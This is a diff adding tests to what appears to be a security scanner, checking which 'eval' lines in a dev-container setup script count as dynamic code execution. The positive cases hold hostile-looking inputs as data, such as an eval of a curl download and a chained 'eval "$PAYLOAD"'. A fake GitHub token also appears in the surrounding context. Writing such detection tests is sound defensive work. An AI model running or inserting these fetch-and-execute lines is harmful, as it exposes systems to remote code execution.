@@ -419,6 +419,19 @@ describe('sinks: a Ruby rescue modifier rewritten as a block', () => {
   });
 });
 
+describe('dynamic-code-execution: a shell activation idiom', () => {
+  it('is not a sink: eval of a version manager\'s or agent\'s own set-up, fixed words only (a date library\'s dev-container on-create.sh)', () => {
+    for (const line of ['eval "$(mise activate bash --shims)"', 'eval "$(pyenv init -)"', 'eval "$(ssh-agent -s)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval "$(~/.local/bin/mise activate zsh)"', '  eval "$(direnv hook bash)"']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
+    }
+  });
+  it('is still a sink with a variable, a download, a pipe, another program or a second command', () => {
+    for (const line of ['eval "$(curl -fsSL https://get.example.dev/env)"', 'eval "$(mise activate $SHELL_NAME)"', 'eval "$(cat "$ENV_FILE")"', 'eval "$(pyenv init - | sed s/x/y/)"', 'eval "$(node setup.js)"', 'eval "$(mise activate bash)"; eval "$PAYLOAD"', 'eval "$($TOOL/mise activate bash)"']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
+    }
+  });
+});
+
 describe('secret-added: a value the edited line already had', () => {
   const github = `ghp_${'Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2Jh1Gf0Ed9Cb8Aa7'}`;
   it('is not reported when the removed line of the file held it (a date library\'s "Replace npm with pnpm": npx to pnpm beside the same credentials value)', () => {
